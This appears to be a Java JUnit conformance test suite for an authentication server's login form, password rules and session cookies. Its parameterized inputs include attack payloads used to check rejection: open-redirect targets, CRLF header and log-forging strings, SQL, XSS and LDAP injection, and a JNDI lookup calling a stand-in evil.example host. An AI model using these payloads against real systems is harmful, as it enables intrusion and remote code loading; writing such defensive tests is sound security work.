package dev.authgate.server.conformance;

import static org.assertj.core.api.Assertions.assertThat;

import java.text.Normalizer;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Requirements 1.11: /login and sessions")
class SignInPageTest {
    private static final String COOKIE = "authgate_session";

    @RegisterExtension
    static final AppUnderTest APP = AppUnderTest.unlimited();

    @Nested
    @DisplayName("The form")
    class Form {
        @Test
        @Tag("LG-01")
        @Tag("LG-13")
        void asks_for_name_and_password_and_lets_managers_fill_it_in() {
            var page = APP.browser().open("/login").page(200).body();

            assertThat(page).contains("<form method=\"post\"", "type=\"password\"", "name=\"csrf_token\"");
            assertThat(page).doesNotContain("autocomplete=\"off\"").doesNotContain("maxlength");
        }

        @Test
        @Tag("LG-02")
        void leads_to_the_code_page_or_to_the_page_that_was_asked_for() {
            var plain = APP.browser().trySignIn(Person.ANN.username(), Person.ANN.password());
            assertThat(plain.status()).isEqualTo(303);
            assertThat(plain.header("Location")).isEqualTo("/device");

            var browser = APP.browser();
            var page = browser.open("/login?redirect=/account/password").page(200);
            var asked = browser.submit(
                    page, "/login", "username", Person.ANN.username(), "password", Person.ANN.password());
            assertThat(asked.header("Location")).isEqualTo("/account/password");
        }

        @Test
        @Tag("LG-03")
        @Tag("LG-15")
        void that_is_not_ours_signs_nobody_in() {
            var browser = APP.browser();
            var form = Map.of("username", Person.ANN.username(), "password", Person.ANN.password());

            assertThat(browser.post("/login", form, "Origin", "https://evil.example")
                            .status())
                    .isEqualTo(403);
            assertThat(browser.isSignedIn()).isFalse();
        }

        @Test
        @Tag("LG-03")
        void of_another_browser_signs_nobody_in() {
            var attacker = APP.browser();
            var form = Browser.filled(
                    attacker.open("/login"),
                    "/login",
                    "username",
                    Person.ANN.username(),
                    "password",
                    Person.ANN.password());

            assertThat(APP.browser().post("/login", form).status()).isEqualTo(403);
        }

        @Test
        @Tag("LG-04")
        void refuses_a_wrong_password_in_words() {
            var page = APP.browser().trySignIn(Person.ANN.username(), "wrong").page(401);

            assertThat(page.body()).contains("Invalid username or password");
        }

        @Test
        @Tag("LG-05")
        void looks_the_same_for_a_wrong_password_and_an_unknown_user() {
            assertThat(refusal("ann")).isEqualTo(refusal("xyz").replace("xyz", "ann"));
        }

        private static String refusal(String username) {
            return APP.browser()
                    .trySignIn(username, "wrong")
                    .page(401)
                    .body()
                    .replaceAll("(name=\"csrf_token\" value=\")[^\"]*", "$1");
        }

        @Test
        @Tag("LG-06")
        void takes_as_long_for_an_unknown_user_as_for_a_wrong_password() {
            var browser = APP.browser();
            var page = browser.open("/login");
            Runnable wrong = () -> browser.submit(page, "/login", "username", "ann", "password", "wrong");
            Runnable unknown = () -> browser.submit(page, "/login", "username", "xyz", "password", "wrong");

            Timing.assertAlike(wrong, unknown, Duration.ofMillis(12));
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "https://evil.example/",
                    "//evil.example",
                    "/\\evil.example",
                    "/%09/evil.example",
                    "/\t/evil.example",
                    "https:evil.example",
                    "javascript:alert(1)",
                    "/x\r\nX-Evil: 1",
                    "user@host",
                    "/..//evil.example",
                    ""
                })
        @Tag("LG-09")
        @Tag("HT-15")
        void never_leads_to_another_site(String target) {
            var browser = APP.browser();
            var page = browser.open("/login?redirect=" + Http.encoded(target)).page(200);
            var form = new LinkedHashMap<>(Browser.filled(
                    page, "/login", "username", Person.ANN.username(), "password", Person.ANN.password()));
            form.put("redirect", target);

            var answer = browser.post("/login", form);

            assertThat(answer.status()).isEqualTo(303);
            assertThat(answer.header("Location")).isEqualTo("/device");
            assertThat(answer.all("X-Evil")).isEmpty();
        }

        @Test
        @Tag("LG-10")
        void reads_no_password_from_the_query() {
            var browser = APP.browser();

            browser.open("/login?" + Http.form("username", "ann", "password", Person.ANN.password()))
                    .page(200);

            assertThat(browser.isSignedIn()).isFalse();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "' OR '1'='1",
                    "<script>alert(1)</script>",
                    "a\r\n2026-01-01 INFO admin logged in",
                    "${jndi:ldap://evil.example/a}",
                    "*)(uid=*",
                    "\u202Eann",
                    "ann\u0001"
                })
        @Tag("LG-11")
        @Tag("LOG-02")
        void stays_calm_about_odd_names(String odd) {
            var page = APP.browser().trySignIn(odd, "wrong").page(401);

            assertThat(page.body()).doesNotContain("<script>");
            assertThat(dev.authgate.server.CapturedLog.text().lines())
                    .noneMatch(line -> line.startsWith("2026-01-01 INFO"));
        }

        @Test
        @Tag("LG-11")
        @Tag("LG-14")
        void refuses_names_that_are_no_text() {
            APP.browser().trySignIn("ann\0", "wrong").page(400);
            APP.http()
                    .postEncoded(
                            "/login", "username=%FF&password=%C0".getBytes(java.nio.charset.StandardCharsets.UTF_8))
                    .page(400);
        }

        @Test
        @Tag("LG-11")
        @Tag("LG-12")
        void refuses_very_long_names_and_passwords_quickly() {
            var before = System.nanoTime();

            APP.browser().trySignIn("A".repeat(10_000), "wrong").page(401);
            APP.browser().trySignIn("ann", "a".repeat(60_000)).page(401);
            APP.browser().trySignIn("ann", "a".repeat(1024 * 1024)).page(413);

            assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(2));
        }
    }

    @Nested
    @DisplayName("The password")
    class Password {
        @Test
        @Tag("LG-40")
        void must_be_long_and_no_guessers_favourite() {
            var person = new Person("fussy", "nine quiet owls on a fence");
            APP.enrol(person);
            var browser = APP.browser().signIn(person);

            for (var weak : List.of("seven77", "password1", "passwordpassword1", "fussyfussyfussyfussy")) {
                changed(browser, person.password(), weak).page(400);
            }
        }

        @Test
        @Tag("SE-41")
        void when_changed_ends_the_other_sessions() {
            var person = new Person("mover", "ten slow trains to the coast");
            var next = "ten fast trains to the mountains";
            APP.enrol(person);
            var elsewhere = APP.browser().signIn(person);
            var here = APP.browser().signIn(person);

            changed(here, person.password(), next).page(200);

            assertThat(here.isSignedIn()).isTrue();
            assertThat(elsewhere.isSignedIn()).isFalse();
            APP.browser().signIn(new Person("mover", next));
        }

        private static Reply changed(Browser browser, String current, String next) {
            return browser.submit(
                    browser.open("/account/password"),
                    "/account/password",
                    "current_password",
                    current,
                    "new_password",
                    next,
                    "repeat_password",
                    next);
        }

        @Test
        @Tag("LG-41")
        void is_kept_as_a_memory_hard_hash() {
            assertThat(APP.query("SELECT password_hash FROM users WHERE username = 'ann'"))
                    .startsWith("$argon2id$");
            assertThat(APP.databaseDump()).doesNotContain(Person.ANN.password());
        }

        @Test
        @Tag("LG-42")
        void may_be_typed_in_either_unicode_form() {
            var composed = "pässwörd für drei müde Möwen";
            var decomposed = Normalizer.normalize(composed, Normalizer.Form.NFD);
            APP.enrol(new Person("umlaut", composed));

            APP.browser().signIn(new Person("umlaut", composed));
            APP.browser().signIn(new Person("umlaut", decomposed));
        }
    }

    @Nested
    @DisplayName("The session")
    class Sessions {
        @Test
        @Tag("LG-07")
        @Tag("LG-08")
        void is_a_new_one_at_sign_in_whatever_was_sent_before() {
            var browser = APP.browser();
            browser.open("/login");
            var before = browser.cookies().get(COOKIE);
            browser.signIn(Person.ANN);
            assertThat(browser.cookies().get(COOKIE)).isNotEqualTo(before);

            var fixed = APP.browser();
            fixed.setCookie(COOKIE, "chosen-by-somebody-else");
            fixed.signIn(Person.ANN);
            assertThat(fixed.cookies().get(COOKIE)).isNotEqualTo("chosen-by-somebody-else");
        }

        @Test
        @Tag("SE-01")
        @Tag("SE-02")
        @Tag("SE-03")
        @Tag("SE-04")
        void is_a_cookie_that_scripts_and_other_sites_cannot_use() {
            var anonymous = APP.browser().open("/login").header("Set-Cookie");
            var signedIn = APP.browser()
                    .trySignIn(Person.ANN.username(), Person.ANN.password())
                    .header("Set-Cookie");

            for (var cookie : List.of(anonymous, signedIn)) {
                assertThat(cookie).contains("; HttpOnly", "; SameSite=Lax", "; Path=/");
                assertThat(cookie).doesNotContainIgnoringCase("domain").doesNotContain("ann");
                assertThat(cookie).matches("authgate_session=[A-Za-z0-9_-]{100,};.*");
            }
        }

        @Test
        @Tag("SE-40")
        void ends_when_it_is_idle() {
            var browser = APP.browser().signIn(Person.ANN);

            APP.clock().advance(Duration.ofHours(24).plusSeconds(1));

            assertThat(browser.isSignedIn()).isFalse();
        }

        @Test
        @Tag("SE-40")
        void ends_after_seven_days_however_busy() {
            var browser = APP.browser().signIn(Person.ANN);
            for (var day = 0; day < 14; day++) {
                assertThat(browser.isSignedIn()).isTrue();
                APP.clock().advance(Duration.ofHours(12));
            }

            assertThat(browser.isSignedIn()).isFalse();
        }
    }
}
